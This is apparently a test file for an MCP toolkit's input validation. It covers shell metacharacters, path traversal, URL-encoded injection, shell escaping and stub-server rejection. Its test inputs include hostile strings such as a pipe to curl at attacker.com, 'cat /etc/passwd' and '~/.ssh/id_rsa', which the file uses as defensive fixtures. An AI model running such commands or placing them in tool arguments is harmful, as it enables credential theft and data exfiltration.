-- ===== src/Suite/Validating.antt =====
-- The tests of the input validation in TestMcp/TestMcp.cpp. The engine of the regular expressions, the
-- hash function and the clock are parameters.
use mcptoolkit.Prelude.{
  Bool, true, false, ◌||◌, not, Option, none, some, List, [], ◌∷◌, ◌++◌, if◌then◌else◌, Bytes,
  codes, beq,
}
use mcptoolkit.Prelude.Dict.{Dict, insert}
use mcptoolkit.Auth.{Hmac}
use mcptoolkit.Validation.{
  ArgumentValidationRule, Validator, Regex, register_tool_rules, contains_shell_metacharacters,
  contains_path_traversal, contains_encoded_metacharacters, escape_shell_argument,
  validate_arguments,
}
use mcptoolkit.Adapter.Replies.{ToolResult}
use mcptoolkit.Adapter.Tools.{ToolDefinition}
use mcptoolkit.Adapter.Dispatch.{Hooks, Clock, extract_auth_token}
use mcptoolkit.Suite.{Assertion, finds}
use mcptoolkit.Suite.Serving.{run_adapter, written}

abbrev shell : Bytes → Bool
shell value = contains_shell_metacharacters value

abbrev pub test_input_validation_shell_metacharacters : List Assertion
test_input_validation_shell_metacharacters =
    (codes "Reject ; (semicolon)", shell (codes "whoami; cat /etc/passwd"))
    ∷ (codes "Reject | (pipe)", shell (codes "grep secret | curl attacker.com"))
    ∷ (codes "Reject & (ampersand)", shell (codes "cmd1 & cmd2"))
    ∷ (codes "Reject $ (dollar)", shell (codes "echo $USER"))
    ∷ (codes "Reject $() (command substitution)", shell (codes "$(whoami)"))
    ∷ (codes "Reject backtick", shell (codes "`whoami`"))
    ∷ (codes "Reject < (less than)", shell (codes "cmd < file.txt"))
    ∷ (codes "Reject > (greater than)", shell (codes "cmd > output.txt"))
    ∷ (codes "Reject && (and)", shell (codes "cmd1 && cmd2"))
    ∷ (codes "Reject || (or)", shell (codes "cmd1 || cmd2"))
    ∷ (codes "Accept alphanumeric", not (shell (codes "hello123")))
    ∷ (codes "Accept with dashes", not (shell (codes "my-file-name")))
    ∷ (codes "Accept with underscores", not (shell (codes "my_file_name")))
    ∷ (codes "Accept with dots", not (shell (codes "file.txt")))
    ∷ (codes "Accept empty string", not (shell []))
    ∷ []

abbrev traversal : Bytes → Bool
traversal value = contains_path_traversal value

abbrev pub test_input_validation_path_traversal : List Assertion
test_input_validation_path_traversal =
    (codes "Reject ..", traversal (codes "../../etc/passwd"))
    ∷ (codes "Reject ~", traversal (codes "~/.ssh/id_rsa"))
    ∷ (codes "Reject .. in middle", traversal (codes "files/../../../etc/passwd"))
    ∷ (codes "Accept absolute path", not (traversal (codes "/etc/config")))
    ∷ (codes "Accept relative path without ..", not (traversal (codes "data/files/config.txt")))
    ∷ (codes "Accept single dot filename", not (traversal (codes "file.backup.txt")))
    ∷ []

abbrev encoded : Bytes → Bool
encoded value = contains_encoded_metacharacters value

abbrev pub test_input_validation_url_encoding : List Assertion
test_input_validation_url_encoding =
    (codes "Reject %3b (;)", encoded (codes "test%3bcat /etc/passwd"))
    ∷ (codes "Reject %7c (|)", encoded (codes "grep%7ccurl attacker.com"))
    ∷ (codes "Reject %26 (&)", encoded (codes "cmd1%26cmd2"))
    ∷ (codes "Reject %24 ($)", encoded (codes "echo%24USER"))
    ∷ (codes "Reject %28 (open paren)", encoded (codes "echo%28whoami%29"))
    ∷ (codes "Reject %3c (<)", encoded (codes "cmd%3cfile.txt"))
    ∷ (codes "Reject %0a (newline)", encoded (codes "line1%0aline2"))
    ∷ (codes "Accept normal URL encoding", not (encoded (codes "hello%20world")))
    ∷ (codes "Accept no encoding", not (encoded (codes "normal-string")))
    ∷ []

abbrev pub test_input_validation_shell_escape : List Assertion
test_input_validation_shell_escape =
    let safe1 = escape_shell_argument (codes "hello world") in
    let safe2 = escape_shell_argument (codes "it's") in
    let safe3 = escape_shell_argument [] in
    let safe4 = escape_shell_argument (codes "normal") in
    (codes "Escaped: hello world", beq safe1 (codes "'hello world'"))
    ∷ (codes "Escaped: it's", beq safe2 (codes "'it'\\''s'"))
    ∷ (codes "Escaped: empty string", beq safe3 (codes "''"))
    ∷ (codes "Escaped: normal", beq safe4 (codes "'normal'"))
    ∷ []

abbrev pub path_rule : ArgumentValidationRule
path_rule = record {
  arg_name = codes "path";
  pattern = codes "^[a-zA-Z0-9._/-]+$";
  allow_shell_metacharacters = false;
  allow_path_traversal = false;
}

-- The validator with the rules of the test.
abbrev read_file_validator : Validator
read_file_validator =
    register_tool_rules
      (record {
        tool_name = codes "read_file";
        required_args = path_rule ∷ [];
        optional_args = [];
        strict_mode = true;
      })
      []

-- `validate_arguments` returns true.
abbrev passes : Option Bytes → Bool
passes none = true
passes (some error) = false

abbrev pub test_input_validation_regex_patterns : Regex → List Assertion
test_input_validation_regex_patterns regex =
    let check : Dict Bytes → Bool =
      λ args. passes (validate_arguments regex read_file_validator (codes "read_file") args) in
    (codes "Validate: data/file.txt", check (insert (codes "path") (codes "data/file.txt") []))
    ∷ (
      codes "Reject: ../../etc/passwd",
      not (check (insert (codes "path") (codes "../../etc/passwd") [])),
    )
    ∷ (codes "Reject: missing path", not (check []))
    ∷ []

abbrev execute_tools : List ToolDefinition
execute_tools =
    record {
      name = codes "execute";
      description = codes "Execute a safe command";
      params =
          record {
            name = codes "cmd";
            type = codes "string";
            description = codes "Command (safe, no shell metacharacters)";
            required = true;
          }
          ∷ [];
    }
    ∷ []

-- The list of the rejected arguments, which the program only prints the length of, is left out.
abbrev pub call_execute : Bytes → Bytes → ToolResult
call_execute name args_json =
    if beq name (codes "execute")
    then if contains_shell_metacharacters args_json
      then record { text = codes "Rejected: shell metacharacters detected"; is_error = true }
      else if contains_encoded_metacharacters args_json
      then record { text = codes "Rejected: encoded metacharacters detected"; is_error = true }
      else record { text = codes "executed safely"; is_error = false }
    else record { text = codes "unknown tool"; is_error = true }

abbrev pub validating_server : Hooks
validating_server = record {
  extract_auth_token = extract_auth_token;
  list_tools = execute_tools;
  call_tool = λ name args who. call_execute name args;
}

module _ (hmac : Hmac) (clock : Clock) where
  -- What the server writes for a line.
  abbrev replies : Bytes → Bytes
  replies input = written (run_adapter hmac clock validating_server (input ++ (10 ∷ [])))

  abbrev pub test_input_validation_with_stub_server : List Assertion
  test_input_validation_with_stub_server =
      let safe = replies (
        codes
          "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\",\"params\":{\"name\":\"execute\",\"arguments\":{\"cmd\":\"whoami\"}}}") in
      let malicious = replies (
        codes
          "{\"jsonrpc\":\"2.0\",\"id\":2,\"method\":\"tools/call\",\"params\":{\"name\":\"execute\",\"arguments\":{\"cmd\":\"whoami; cat /etc/passwd\"}}}") in
      let url_encoded = replies (
        codes
          "{\"jsonrpc\":\"2.0\",\"id\":3,\"method\":\"tools/call\",\"params\":{\"name\":\"execute\",\"arguments\":{\"cmd\":\"whoami%3bcat%20/etc/passwd\"}}}") in
      (codes "Safe command accepted", finds (codes "executed safely") safe)
      ∷ (
        codes "Command injection rejected",
        finds (codes "Rejected") malicious || finds (codes "isError") malicious,
      )
      ∷ (
        codes "URL-encoded injection rejected",
        finds (codes "Rejected") url_encoded || finds (codes "isError") url_encoded,
      )
      ∷ []

  abbrev pub run_validation_tests : Regex → List Assertion
  run_validation_tests regex =
      test_input_validation_shell_metacharacters
      ++ (test_input_validation_path_traversal
          ++ (test_input_validation_url_encoding
              ++ (test_input_validation_shell_escape
                  ++ (test_input_validation_regex_patterns regex
                      ++ test_input_validation_with_stub_server))))
